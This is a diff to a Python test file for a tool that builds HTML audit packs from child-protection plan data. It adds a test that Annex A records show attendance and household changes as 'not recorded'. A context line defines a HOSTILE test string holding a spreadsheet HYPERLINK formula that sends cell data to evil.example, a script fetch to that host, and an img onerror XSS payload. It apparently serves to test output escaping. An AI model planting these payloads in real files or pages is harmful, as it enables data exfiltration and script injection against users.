@@ -153,6 +153,31 @@ def test_pack_file_name_is_safe():
     assert pack.pack_file_name("ab/../c d", date(2024, 1, 2)) == "audit_pack_abcd_2024-01-02.html"
 
 
+def test_an_annex_a_child_reads_not_recorded_never_late(tmp_path):
+    """Annex A carries no core groups, attendance or household changes: the pack says so (issue 13)."""
+    from paqa_dash.pipeline import run_import
+    from support.paths import FIXTURES
+
+    db = tmp_path / "annex.duckdb"
+    run_import([FIXTURES / "samples" / "annex_a" / "Annex_A.xlsx"], db)
+    annex = store.connect(db, read_only=True)
+    try:
+        child = annex.execute("SELECT child_id FROM plans ORDER BY start_date LIMIT 1").fetchone()[0]
+        html = pack.build_pack(annex, child)
+    finally:
+        annex.close()
+    text = re.sub(r"<[^>]+>", " ", html)
+    assert "Core group attendance is not recorded in this data" in text
+    assert "Household changes are not recorded in this data" in text
+    assert "core groups late or missed" in text.lower() and "Not assessed, not recorded in this data" in text
+    timing = html[html.index("First core group"):]
+    timing = timing[:timing.index("</table>")]
+    rows = [re.findall(r"<td[^>]*>(.*?)</td>", r, re.S) for r in re.findall(r"<tr[^>]*>(.*?)</tr>", timing, re.S)]
+    rows = [r for r in rows if r]
+    assert rows and all(r[1:4] == ["not recorded in this data"] * 3 for r in rows)   # held, first, later
+    assert "No core group attendance is recorded" not in text
+
+
 HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") <script>fetch('http://evil.example')</script> "
            "[see the report](http://evil.example/x) <img src=x onerror=alert(1)>")
 
